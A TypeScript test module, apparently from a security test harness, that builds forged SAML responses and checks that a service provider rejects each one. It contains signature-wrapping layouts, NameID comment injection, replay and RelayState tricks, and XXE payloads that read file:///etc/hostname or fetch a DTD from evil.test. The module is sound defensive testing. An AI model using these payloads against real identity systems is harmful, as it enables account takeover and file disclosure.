import { must } from '../../strikes/staged-attack.ts'
import type { Duel } from '../duel.ts'
import { type Browser, FOREIGN, locationOf, type Page } from '../house/browser.ts'
import { SAML } from '../house/connect.ts'
import type { Party } from '../house/party.ts'
import {
  type AuthnRequest,
  assertionXml,
  encoded,
  goodParts,
  type Parts,
  readAuthnRequest,
  responseXml,
  type SamlKeys,
  signedAssertion,
  signedResponse,
} from '../house/saml-provider.ts'
import { attackOf, type RealmAttack, statusesOf } from './attack.ts'
import { begin, isTaken } from './federation.ts'

const write = attackOf('write')
const MALLORY = 'somebody-at-the-provider'

interface Try {
  /** Right in all, for the request of the attacker's browser, and for the victim's person. */
  readonly parts: Parts
  readonly keys: SamlKeys
  readonly stranger: SamlKeys
  /** The other realm, which uses the same provider. */
  readonly other: Party
}

async function started(browser: Browser, party: Party): Promise<AuthnRequest> {
  return readAuthnRequest(await begin(browser, party, SAML))
}

/** As the page of the provider would. */
function handIn(browser: Browser, { acs, relayState }: AuthnRequest, xml: string): Promise<Page> {
  const form = {
    SAMLResponse: encoded(xml),
    ...(relayState === '' ? {} : { RelayState: relayState }),
  }
  return browser.once('POST', acs, { form, headers: FOREIGN })
}

async function ownerSignsIn(duel: Duel): Promise<string> {
  const { victim } = duel
  const browser = duel.ownerBrowser()
  const request = await started(browser, victim)
  const { keys } = duel.plane.site.saml
  const page = await handIn(
    browser,
    request,
    signedResponse(goodParts(request, victim.personCanary), keys),
  )
  must(isTaken(page), `sign in by its provider: ${page.status}`)
  const { url } = await browser.get(locationOf(page) ?? '')
  must(url.startsWith(victim.callback), 'come to its application')
  duel.othersWork()
  return 'the user signed in by its provider'
}

/** Responses that must sign nobody in, each to a sign-in of its own. */
function responded(id: string, title: string, make: (one: Try) => readonly string[]): RealmAttack {
  return write(id, title, async (duel) => {
    const owner = await ownerSignsIn(duel)
    const { keys, stranger } = duel.plane.site.saml
    return {
      owner,
      attempt: async () => {
        const pages: Page[] = []
        for (let at = 0, count = 1; at < count; at += 1) {
          const browser = duel.browser()
          const request = await started(browser, duel.victim)
          const parts = goodParts(request, duel.victim.personCanary)
          const all = make({ parts, keys, stranger, other: duel.attacker })
          count = all.length
          pages.push(await handIn(browser, request, all[at] ?? ''))
        }
        return { crossed: pages.some(isTaken), met: statusesOf(pages) }
      },
    }
  })
}

const signatureOf = (signed: string) => /<Signature.*<\/Signature>/s.exec(signed)?.[0] ?? ''
const bare = (signed: string) => signed.replace(/<Signature.*<\/Signature>/s, '')
const afterIssuer = (xml: string, inserted: string) =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${inserted}`)
const inside = (signature: string, inserted: string) =>
  signature.replace('</Signature>', `<Object>${inserted}</Object></Signature>`)

export const SAML_ATTACKS: readonly RealmAttack[] = [
  responded('id-saml-unsigned', 'Assertions that nobody has signed', ({ parts, keys }) => [
    responseXml(parts, assertionXml(parts)),
    responseXml(parts, assertionXml(parts)).replace(
      '<samlp:Status>',
      `${signatureOf(signedAssertion({ ...parts, nameId: MALLORY }, keys))}<samlp:Status>`,
    ),
    bare(signedResponse(parts, keys)),
  ]),
  responded('id-saml-other-key', "Assertions by somebody else's key", ({ parts, stranger }) => [
    signedResponse(parts, stranger),
  ]),
  responded('id-saml-wrapping', 'A signature moved away from what is read', ({ parts, keys }) => {
    const mine = { ...parts, nameId: MALLORY }
    const signed = signedAssertion(mine, keys)
    const forged = assertionXml({ ...parts, id: '_forged' })
    return [
      responseXml(parts, forged + signed),
      responseXml(parts, signed + forged),
      responseXml(parts, forged.replace('</saml:Assertion>', `${signed}</saml:Assertion>`)),
      responseXml(parts, afterIssuer(forged, signatureOf(signed)) + bare(signed)),
      responseXml(parts, afterIssuer(forged, inside(signatureOf(signed), bare(signed)))),
      responseXml(parts, `<samlp:Extensions>${forged}</samlp:Extensions>${signed}`),
      responseXml(
        parts,
        afterIssuer(assertionXml(parts), inside(signatureOf(signed), bare(signed))),
      ),
      responseXml(parts, afterIssuer(forged, signatureOf(signed))),
    ]
  }),
  responded('id-saml-comment', 'A name with a comment in it', ({ parts, keys }) => {
    const signed = signedResponse({ ...parts, nameId: `${parts.nameId}.evil` }, keys)
    return [
      signed.replace(`${parts.nameId}.evil`, `${parts.nameId}<!-- -->.evil`),
      signed.replace(`${parts.nameId}.evil`, `${parts.nameId}<?x?>.evil`),
    ]
  }),
  responded('id-saml-audience', 'An assertion for another realm', ({ parts, keys, other }) => [
    signedResponse({ ...parts, audience: `${other.issuer}/federation/${SAML}/metadata` }, keys),
  ]),
  responded('id-saml-recipient', 'An assertion to another address', ({ parts, keys, other }) => {
    const acs = `${other.issuer}/federation/${SAML}/acs`
    return [
      signedResponse({ ...parts, recipient: acs }, keys),
      signedResponse({ ...parts, destination: acs }, keys),
    ]
  }),
  responded('id-saml-issuer', 'An assertion of another provider', ({ parts, keys }) => [
    signedResponse({ ...parts, issuer: 'https://other.test/saml' }, keys),
  ]),
  responded('id-saml-late', 'An assertion before and after its time', ({ parts, keys }) => {
    const hour = 3_600_000
    const now = Date.now()
    return [
      signedResponse(
        { ...parts, until: new Date(now - hour), from: new Date(now - 2 * hour) },
        keys,
      ),
      signedResponse(
        { ...parts, from: new Date(now + hour), until: new Date(now + 2 * hour) },
        keys,
      ),
    ]
  }),
  responded(
    'id-saml-document-type',
    'A document that names files and entities',
    ({ parts, keys }) => {
      const signed = signedResponse(parts, keys)
      return [
        `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>${signed}`,
        `<!DOCTYPE r SYSTEM "https://evil.test/x.dtd">${signed}`,
        `<!DOCTYPE r [<!ENTITY a "x">]>${signed}`,
      ]
    },
  ),
  write('id-saml-other-request', 'A response to another request, or to none', async (duel) => {
    const { victim } = duel
    const owner = await ownerSignsIn(duel)
    const { keys } = duel.plane.site.saml
    return {
      owner,
      attempt: async () => {
        const theirs = await started(duel.ownerBrowser(), victim)
        const pages: Page[] = []
        for (const inResponseTo of [theirs.id, undefined, '_made-up']) {
          const thief = duel.browser()
          const request = await started(thief, victim)
          const parts = { ...goodParts(request, victim.personCanary), inResponseTo }
          pages.push(await handIn(thief, request, signedResponse(parts, keys)))
        }
        // Without the browser's own part, and with one that leads elsewhere.
        for (const relayState of ['', 'https://evil.test/', theirs.relayState]) {
          const thief = duel.browser()
          const request = { ...(await started(thief, victim)), relayState }
          const parts = goodParts(relayState === '' ? request : theirs, victim.personCanary)
          pages.push(await handIn(thief, request, signedResponse(parts, keys)))
        }
        const away = pages.some((page) => locationOf(page)?.includes('evil.test') === true)
        return { crossed: away || pages.some(isTaken), met: statusesOf(pages) }
      },
    }
  }),
  write('id-saml-replayed', 'A response that was handed in before', async (duel) => {
    const { victim } = duel
    const owner = await ownerSignsIn(duel)
    const { keys } = duel.plane.site.saml
    const own = duel.ownerBrowser()
    const request = await started(own, victim)
    const xml = signedResponse(goodParts(request, victim.personCanary), keys)
    must(isTaken(await handIn(own, request, xml)), 'hand its response in')
    return {
      owner,
      attempt: async () => {
        const thief = duel.browser()
        const mine = await started(thief, victim)
        const pages = [
          await handIn(own, request, xml),
          await handIn(thief, mine, xml),
          await handIn(thief, { ...mine, relayState: request.relayState }, xml),
        ]
        return { crossed: pages.some(isTaken), met: statusesOf(pages) }
      },
    }
  }),
]
